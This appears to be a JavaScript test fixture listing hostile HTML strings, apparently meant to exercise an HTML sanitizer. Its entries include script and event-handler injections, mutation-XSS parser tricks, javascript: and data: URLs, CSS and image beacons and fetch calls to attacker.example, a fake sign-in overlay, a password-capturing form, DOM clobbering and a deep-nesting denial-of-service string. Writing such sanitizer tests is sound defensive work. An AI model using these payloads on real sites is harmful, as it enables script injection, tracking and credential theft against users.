/**
 * What senders try with HTML: to run, to ask a server, to lead away, to lie over the page. Each asks
 * `https://attacker.example` when it succeeds, or calls `alert`.
 */
const away = 'https://attacker.example'
const run = `fetch('${away}/ran');parent.postMessage('ran','*');alert(1)`

export const hostileHtml: readonly string[] = [
  `<script>${run}</script><ScRiPt src="${away}/s.js"></sCrIpT>`,
  `<img src=x onerror="${run}"><body onload="${run}"><svg onload="${run}"></svg>`,
  `<svg><style><img src=x onerror="${run}"></style></svg><svg><script>${run}</script></svg>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${run}&gt;">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror="${run}">`,
  `<noscript><p title="</noscript><img src=x onerror='${run}'>"></noscript>`,
  `<svg></p><style><a id="</style><img src=1 onerror='${run}'>">`,
  `<template><img src=x onerror="${run}"></template><xmp><img src=x onerror="${run}"></xmp>`,
  `<a href="javascript:${run}">x</a><a href="jAvAsCrIpT&colon;${run}">x</a><a href="java\tscript:${run}">x</a>`,
  `<a href="data:text/html,<script>${run}</script>">x</a><a href="vbscript:msgbox(1)">x</a>`,
  `<iframe src="${away}/frame"></iframe><iframe srcdoc="<script>${run}</script>"></iframe><object data="${away}/o"></object><embed src="${away}/e">`,
  `<meta http-equiv="refresh" content="0;url=${away}/refresh"><base href="${away}/"><link rel="stylesheet" href="${away}/l.css"><link rel="prefetch" href="${away}/p">`,
  `<form action="${away}/form"><input name="password" autofocus onfocus="${run}"><button formaction="${away}/b">x</button></form>`,
  `<img src="${away}/i.png" srcset="${away}/i2.png 2x"><picture><source srcset="${away}/p.png"><img src="${away}/p2.png"></picture><input type="image" src="${away}/in.png">`,
  `<table background="${away}/t.png"><tr><td background="${away}/td.png">x</td></tr></table><video poster="${away}/v.png" src="${away}/v.mp4" autoplay></video><audio src="${away}/a.mp3" autoplay></audio>`,
  `<style>@import url(${away}/import.css); @import "${away}/import2.css"; body { background: url(${away}/bg.png) } @font-face { font-family: x; src: url(${away}/f.woff2) } p { font-family: x; list-style: url(${away}/li.png); cursor: url(${away}/c.cur), auto; content: url(${away}/co.png) }</style><p>x</p>`,
  `<style>p { background: u\\72l(${away}/escaped.png); --x: url(${away}/var.png); background: var(--x); background-image: image-set("${away}/set.png" 1x); mask: url(${away}/mask.svg#m) }</style><p>x</p>`,
  `<p style="background:url('${away}/inline.png')">x</p><p style="background:\\75 rl(${away}/inline2.png)">x</p><p style="border-image:url(${away}/border.png) 1;filter:url(${away}/f.svg#f)">x</p>`,
  `<svg><image href="${away}/svg.png"/><use href="${away}/use.svg#x"/><filter id=f><feImage href="${away}/fe.png"/></filter><rect filter="url(#f)" width=9 height=9 /></svg>`,
  `<div style="position:fixed;inset:0;z-index:99999;background:#fff"><a href="${away}/overlay">Sign in</a></div><style>body{height:500vh}div{min-height:100vh}</style>`,
  `<img name="body"><form name="createElement"></form><a id="defaultView" name="querySelector"></a><img id="contentDocument">`,
  `<img src="cid:nothing"><img src="cid:${away}/cid.png"><img src="//attacker.example/relative.png"><img src="/api/auth/logout"><img src="\\\\attacker.example\\share">`,
  `<a href="${away}/ping" ping="${away}/pinged" target="_top">x</a><area href="${away}/area" shape="default"><map name=m><area href="${away}/m"></map>`,
  `<details open ontoggle="${run}"><summary>x</summary></details><marquee onstart="${run}">x</marquee><dialog open>x</dialog><div popover autofocus onbeforetoggle="${run}">x</div>`,
  `${'<div>'.repeat(20_000)}deep${'</div>'.repeat(20_000)}`,
]
